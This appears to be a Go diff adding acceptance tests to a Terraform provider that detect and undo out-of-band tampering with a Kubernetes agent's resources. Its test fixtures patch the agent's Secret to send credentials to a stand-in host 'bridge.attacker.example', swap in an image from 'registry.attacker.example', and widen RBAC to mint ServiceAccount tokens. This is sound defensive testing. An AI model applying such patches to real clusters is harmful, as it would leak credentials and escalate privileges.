@@ -3,6 +3,8 @@ package provider
 import (
 	"context"
 	"fmt"
+	"os"
+	"path/filepath"
 	"regexp"
 	"strings"
 	"testing"
@@ -236,6 +238,30 @@ func TestAccAgentAccount_agentMode(t *testing.T) {
 		}
 	}
 
+	// grants checks, for pairs of a resource and whether it is wanted, that
+	// the agent's ClusterRole grants it or not.
+	grants := func(want ...any) tfresource.TestCheckFunc {
+		return func(*terraform.State) error {
+			cr, err := tcs.RbacV1().ClusterRoles().Get(t.Context(), "spinops-agent-"+name, metav1.GetOptions{})
+			if err != nil {
+				return err
+			}
+			granted := map[string]bool{}
+			for _, r := range cr.Rules {
+				for _, res := range r.Resources {
+					granted[res] = true
+				}
+			}
+			for i := 0; i+1 < len(want); i += 2 {
+				res, on := want[i].(string), want[i+1].(bool)
+				if granted[res] != on {
+					return fmt.Errorf("the agent's ClusterRole grants %s: %v, want %v (rules %v)", res, granted[res], on, cr.Rules)
+				}
+			}
+			return nil
+		}
+	}
+
 	tfresource.Test(t, tfresource.TestCase{
 		ProtoV6ProviderFactories: testAccProtoV6ProviderFactories,
 		CheckDestroy: func(*terraform.State) error {
@@ -341,6 +367,118 @@ func TestAccAgentAccount_agentMode(t *testing.T) {
 				},
 			},
 			{
+				// Edits made with kubectl to what the install made, each by
+				// its own field manager: the agent's ClusterRole granted
+				// more than its kinds (tokens of any ServiceAccount), its
+				// Secret pointed at another bridge (the agent would hand
+				// that one its credential), its Deployment scaled to 0 and
+				// given another image, its configuration edited. Refresh
+				// lists exactly those; the apply puts them back.
+				PreConfig: func() {
+					ctx, agentName := t.Context(), "spinops-agent-"+name
+					edit := func(what string, err error) {
+						if err != nil {
+							t.Fatalf("%s outside Terraform: %v", what, err)
+						}
+					}
+					_, err := tcs.RbacV1().ClusterRoles().Patch(ctx, agentName, ktypes.JSONPatchType,
+						[]byte(`[{"op":"add","path":"/rules/-","value":{"apiGroups":[""],"resources":["serviceaccounts/token"],"verbs":["create"]}}]`),
+						metav1.PatchOptions{FieldManager: "kubectl-edit"})
+					edit("widening the agent's ClusterRole", err)
+					_, err = tcs.CoreV1().Secrets(agentNS).Patch(ctx, agentName, ktypes.MergePatchType,
+						[]byte(`{"stringData":{"`+attach.SecretAddressKey+`":"bridge.attacker.example:443"}}`), metav1.PatchOptions{FieldManager: "kubectl-edit"})
+					edit("pointing the agent's Secret at another bridge", err)
+					scale, err := tcs.AppsV1().Deployments(agentNS).GetScale(ctx, agentName, metav1.GetOptions{})
+					edit("reading the agent's scale", err)
+					scale.Spec.Replicas = 0
+					_, err = tcs.AppsV1().Deployments(agentNS).UpdateScale(ctx, agentName, scale, metav1.UpdateOptions{FieldManager: "kubectl-scale"})
+					edit("scaling the agent to 0", err)
+					_, err = tcs.AppsV1().Deployments(agentNS).Patch(ctx, agentName, ktypes.StrategicMergePatchType,
+						[]byte(`{"spec":{"template":{"spec":{"containers":[{"name":"agent","image":"registry.attacker.example/agent:1"}]}}}}`),
+						metav1.PatchOptions{FieldManager: "kubectl-set"})
+					edit("changing the agent's image", err)
+					cm, err := tcs.CoreV1().ConfigMaps(agentNS).Get(ctx, agentName, metav1.GetOptions{})
+					edit("reading the agent's configuration", err)
+					cm.Data[attach.ConfigKey] += "\n# edited by hand\n"
+					_, err = tcs.CoreV1().ConfigMaps(agentNS).Update(ctx, cm, metav1.UpdateOptions{FieldManager: "kubectl-edit"})
+					edit("editing the agent's configuration", err)
+				},
+				Config: agentAccountConfig(tb, spin, spinNS, target, name, `["ConfigMap", "Secret"]`),
+				ConfigPlanChecks: driftPlanChecks(addr,
+					"ClusterRole spinops-agent-"+name+": changed: rules",
+					"ConfigMap "+agentNS+"/spinops-agent-"+name+": changed: data",
+					"Deployment "+agentNS+"/spinops-agent-"+name+": changed: spec.replicas, spec.template",
+					"Secret "+agentNS+"/spinops-agent-"+name+": changed: data",
+				),
+				ConfigStateChecks: []statecheck.StateCheck{
+					statecheck.ExpectKnownValue(addr, tfjsonpath.New("drifted_objects"), knownvalue.ListExact(nil)),
+					statecheck.ExpectKnownValue(addr, tfjsonpath.New("status"), knownvalue.StringExact("connected")),
+				},
+				Check: tfresource.ComposeTestCheckFunc(
+					rbacIs("configmaps", "secrets"),
+					func(*terraform.State) error {
+						ctx, agentName := t.Context(), "spinops-agent-"+name
+						sec, err := tcs.CoreV1().Secrets(agentNS).Get(ctx, agentName, metav1.GetOptions{})
+						if err != nil {
+							return err
+						}
+						if got := string(sec.Data[attach.SecretAddressKey]); got != tb.Addr {
+							return fmt.Errorf("the agent's Secret names bridge %q after the apply, want %q", got, tb.Addr)
+						}
+						d, err := tcs.AppsV1().Deployments(agentNS).Get(ctx, agentName, metav1.GetOptions{})
+						if err != nil {
+							return err
+						}
+						if d.Spec.Replicas == nil || *d.Spec.Replicas != 1 || d.Spec.Template.Spec.Containers[0].Image != "ghcr.io/spinops/spinops:test" {
+							return fmt.Errorf("the agent's Deployment was not put back: replicas %v, image %s", d.Spec.Replicas, d.Spec.Template.Spec.Containers[0].Image)
+						}
+						cm, err := tcs.CoreV1().ConfigMaps(agentNS).Get(ctx, agentName, metav1.GetOptions{})
+						if err != nil {
+							return err
+						}
+						if strings.Contains(cm.Data[attach.ConfigKey], "edited by hand") {
+							return fmt.Errorf("the agent's configuration was not put back")
+						}
+						return nil
+					},
+					stateHoldsNo(credential),
+				),
+			},
+			{
+				// The credential rotated at the bridge outside Terraform (an
+				// operator's RotateCredential): the agent's credential stops
+				// working. Refresh shows the Secret (and the Deployment,
+				// whose pods roll on a new credential) as drift, and the
+				// apply delivers the bridge's current credential: the agent
+				// connects again.
+				PreConfig: func() {
+					if _, err := tb.admin.RotateCredential(tb.ctx(), &bridgev1.RotateCredentialRequest{Name: name}); err != nil {
+						t.Fatal(err)
+					}
+				},
+				Config: agentAccountConfig(tb, spin, spinNS, target, name, `["ConfigMap", "Secret"]`),
+				ConfigPlanChecks: driftPlanChecks(addr,
+					"Deployment "+agentNS+"/spinops-agent-"+name+": changed: spec.template",
+					"Secret "+agentNS+"/spinops-agent-"+name+": changed: data",
+				),
+				ConfigStateChecks: []statecheck.StateCheck{
+					statecheck.ExpectKnownValue(addr, tfjsonpath.New("status"), knownvalue.StringExact("connected")),
+				},
+				Check: tfresource.ComposeTestCheckFunc(
+					func(*terraform.State) error {
+						sec, err := tcs.CoreV1().Secrets(agentNS).Get(t.Context(), "spinops-agent-"+name, metav1.GetOptions{})
+						if err != nil {
+							return err
+						}
+						if now := credential(); len(now) == 0 || string(sec.Data[attach.SecretCredentialKey]) != now[0] {
+							return fmt.Errorf("the agent's Secret does not hold the credential the bridge rotated to")
+						}
+						return nil
+					},
+					stateHoldsNo(credential),
+				),
+			},
+			{
 				// The registration is changed out of band (kinds narrowed):
 				// refresh shows it and the plan puts it back.
 				PreConfig: func() {
@@ -425,8 +563,50 @@ func TestAccAgentAccount_agentMode(t *testing.T) {
 				},
 				Check: tfresource.ComposeTestCheckFunc(objectsMatch("configmaps", "secrets"), stateHoldsNo(credential)),
 			},
+			{
+				// Every kind (kinds unset): the ClusterRole grants what the
+				// target cluster serves.
+				Config:            agentAccountConfig(tb, spin, spinNS, target, name, `null`, `credential_rotation = "2026-11"`),
+				ConfigStateChecks: []statecheck.StateCheck{statecheck.ExpectKnownValue(addr, tfjsonpath.New("status"), knownvalue.StringExact("connected"))},
+				Check:             grants("configmaps", true, "widgets", false),
+			},
+			{
+				// A CRD installed in the target cluster afterwards: the
+				// ClusterRole no longer grants every kind the agent
+				// watches. Refresh lists it, the apply grants the new kind.
+				PreConfig: func() { target.InstallCRD(t, widgetCRD(t)) },
+				Config:    agentAccountConfig(tb, spin, spinNS, target, name, `null`, `credential_rotation = "2026-11"`),
+				ConfigPlanChecks: driftPlanChecks(addr,
+					"ClusterRole spinops-agent-"+name+": changed: rules"),
+				Check: grants("configmaps", true, "widgets", true),
+			},
 		},
 	})
+}
+
+// widgetCRD writes a CustomResourceDefinition of a namespaced kind Widget
+// (widgets.example.com) and returns its path.
+func widgetCRD(t *testing.T) string {
+	p := filepath.Join(t.TempDir(), "widgets.yaml")
+	const crd = `apiVersion: apiextensions.k8s.io/v1
+kind: CustomResourceDefinition
+metadata:
+  name: widgets.example.com
+spec:
+  group: example.com
+  scope: Namespaced
+  names: {plural: widgets, singular: widget, kind: Widget, listKind: WidgetList}
+  versions:
+  - name: v1
+    served: true
+    storage: true
+    schema:
+      openAPIV3Schema: {type: object, x-kubernetes-preserve-unknown-fields: true}
+`
+	if err := os.WriteFile(p, []byte(crd), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	return p
 }
 
 // TestAccAgentAccount_infrastructureMode attaches two clusters served by one
@@ -484,6 +664,31 @@ ephemeral "spinops_agent_credential" "one" {
 				}
 				return out
 			}),
+		}, {
+			// The credential Secret of infra-two pointed at another bridge
+			// by hand (an agent reading it would hand that bridge its
+			// credential): refresh lists it, the apply puts it back, and
+			// infra-one is left alone.
+			PreConfig: func() {
+				if _, err := spin.Clientset().CoreV1().Secrets(spinNS).Patch(t.Context(), "spinops-agent-infra-two", ktypes.MergePatchType,
+					[]byte(`{"stringData":{"`+attach.SecretAddressKey+`":"bridge.attacker.example:443"}}`), metav1.PatchOptions{FieldManager: "kubectl-edit"}); err != nil {
+					t.Fatal(err)
+				}
+			},
+			Config: config,
+			ConfigPlanChecks: tfresource.ConfigPlanChecks{PreApply: append(
+				driftPlanChecks("spinops_agent_account.infra-two", "Secret "+spinNS+"/spinops-agent-infra-two: changed: data").PreApply,
+				plancheck.ExpectResourceAction("spinops_agent_account.infra-one", plancheck.ResourceActionNoop))},
+			Check: func(*terraform.State) error {
+				sec, err := spin.Clientset().CoreV1().Secrets(spinNS).Get(t.Context(), "spinops-agent-infra-two", metav1.GetOptions{})
+				if err != nil {
+					return err
+				}
+				if got := string(sec.Data[attach.SecretAddressKey]); got != tb.Addr {
+					return fmt.Errorf("the credential Secret names bridge %q after the apply, want %q", got, tb.Addr)
+				}
+				return nil
+			},
 		}, {
 			// The removed mode is refused at plan time with what to write.
 			Config:      strings.Replace(config, `mode  = "infrastructure"`, `mode  = "spinnaker_service"`, 1),
